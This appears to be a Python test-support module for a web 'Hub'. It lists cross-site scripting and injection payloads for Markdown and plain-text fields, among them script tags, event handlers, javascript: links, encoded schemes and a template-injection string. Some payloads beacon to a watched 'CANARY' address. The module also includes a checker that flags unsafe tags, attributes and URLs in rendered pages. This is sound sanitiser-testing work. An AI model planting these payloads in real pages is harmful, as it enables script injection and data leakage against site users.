"""What people write who want a page of the Hub to do something for them; `CANARY` stands for an address they watch."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit


MARKDOWN = [
    "<script>document.title = 'owned'; fetch('CANARY/script')</script>",
    "<img src=x onerror=\"document.title='owned';new Image().src='CANARY/onerror'\">",
    "<svg onload=\"document.title='owned'\"><script>fetch('CANARY/svg')</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="CANARY/embed">',
    '<link rel="stylesheet" href="CANARY/style.css">',
    '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
    '<base href="CANARY/">',
    '<form action="CANARY/form"><input name=x autofocus onfocus="document.title=\'owned\'"></form>',
    "<style>@import url('CANARY/import.css'); body { background: url(CANARY/background) }</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=\"document.title='owned'\"><summary>x</summary></details>",
    "<video src=CANARY/video onloadstart=alert(1) autoplay></video>",
    "<body onpageshow=\"document.title='owned'\">",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=\"document.title='owned'\">-->",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "<scr<script>ipt>document.title='owned'</scr</script>ipt>",
    "</article></main><script>document.title='owned'</script>",
    "[link](javascript:document.title='owned')",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java&#x0A;script:alert(1))",
    "[link](&#x6A;&#97;vascript&colon;alert(1))",
    "[link](\x01javascript:alert(1))",
    "[link](vbscript:msgbox(1))",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](data:image/png;base64,iVBORw0KGgo=)",
    "[link](file:///etc/passwd)",
    "[link](//CANARYHOST/protocol-relative)",
    "[link](/\\CANARYHOST/backslash)",
    "[link](/%2FCANARYHOST/encoded)",
    "[link](<javascript:alert(1)>)",
    '[link](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "[link](https://example.org '\" autofocus onfocus=\"alert(1)')",
    "[a [nested](javascript:alert(1)) b](javascript:alert(2))",
    "[reference][one]\n\n[one]: javascript:alert(1)\n",
    '[other reference][two]\n\n[two]: <data:text/html,x> "title"\n',
    "![picture](CANARY/picture.png)",
    "![picture](javascript:alert(1))",
    "![picture](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\" onerror=\"document.title='owned'](x.png)",
    "![picture](../../../other/repository/resolve/main/x.png)",
    "![picture](//CANARYHOST/x.png)",
    "<javascript:alert(1)>",
    "<data:text/html,alert>",
    '<CANARY/autolink"onmouseover=alert(1)>',
    "```\"><script>document.title='owned'</script>\ncode\n```",
    "```html onload=alert(1)\n<script>document.title='owned'</script>\n```",
    "`<script>document.title='owned'</script>`",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "&#60;script&#62;document.title='owned'&#60;/script&#62;",
    "＜script＞document.title='owned'＜/script＞",
    "<s\u200bcript>document.title='owned'</s\u200bcript>",
    "\u202e<script>alert(1)</script>\u202c and &#x202e; too",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n",
    "# <img src=x onerror=\"document.title='owned'\">\n",
]
"""Markdown: raw HTML, addresses that run, pictures that tell, titles that end early, entities, code, tables."""

TEXTS = [
    "<script>document.title='owned'</script>",
    "\"><img src=x onerror=\"document.title='owned';new Image().src='CANARY/text'\">",
    "'-alert(1)-' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% include 'base.html.j2' %}",
    "</title><script>document.title='owned'</script>",
    "\u202egpj.exe",
    "&lt;img src=x onerror=alert(1)&gt;",
]
"""Texts for places that know no Markdown: names, messages, titles, values."""

_TAGS = set(
    "html head meta title link body header nav a span main h1 h2 h3 h4 h5 h6 p div section aside article table thead"
    " tbody tr th td ul ol li code pre bdi img em strong s del blockquote hr br details summary form input button"
    " svg line circle text".split()
)
_ATTRIBUTES = set(
    "lang charset name content rel href class id title src alt loading method role aria-label type value placeholder"
    " scope download open start width height viewbox xmlns x y x1 y1 x2 y2 cx cy r".split()
)


class Checker(HTMLParser):
    """Collects what a page must not have: elements, attributes or addresses that could do something."""

    def __init__(self, text: str):
        super().__init__()
        self.faults: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src") and not self._plain(tag, name, value or ""):
                self.faults.append(f"{tag} {name}={value}")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.faults.append("meta http-equiv")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    @staticmethod
    def _plain(tag: str, name: str, value: str) -> bool:
        """Of this server by path; links, and nothing but links, also to the web."""
        if value != value.strip() or any(ord(letter) < 33 or letter == "\\" for letter in value):
            return False
        parts = urlsplit(value)
        if parts.scheme or parts.netloc:
            return tag == "a" and name == "href" and parts.scheme in ("http", "https") and bool(parts.netloc)
        return value.startswith(("/", "#", "?")) and not value.startswith("//")


def filled(texts: list[str], endpoint: str) -> list[str]:
    """The payloads with the address that is watched."""
    canary = f"{endpoint}/canary"
    return [text.replace("CANARYHOST", endpoint.partition("//")[2]).replace("CANARY", canary) for text in texts]
